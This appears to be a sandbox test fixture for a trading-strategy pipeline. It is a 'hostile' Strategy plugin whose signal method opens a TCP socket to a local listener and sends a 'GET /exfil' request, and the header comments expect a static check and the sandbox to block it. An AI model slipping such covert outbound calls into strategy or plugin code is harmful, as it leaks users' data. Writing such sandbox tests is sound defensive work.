# expect: static: import of 'socket' is not allowed
# kernel: sandbox: was killed by the sandbox: it attempted a forbidden system call
# hostile: connection
# A plain TCP connection out (here to a listener on 127.0.0.1).
import socket

import numpy as np
import pandas as pd

from blofin_pipeline.strategies import Strategy


class Hostile(Strategy):
    name = "hostile_socket"
    category = "trend"
    params = {"window": 10}
    param_space = {"window": (2, 100)}

    def generate_signals(self, candles: pd.DataFrame) -> pd.Series:
        with socket.create_connection(("127.0.0.1", int("{{PORT}}")), timeout=5) as conn:
            conn.sendall(b"GET /exfil HTTP/1.0\r\n\r\n")
        return np.sign(candles["close"].diff()).fillna(0.0)
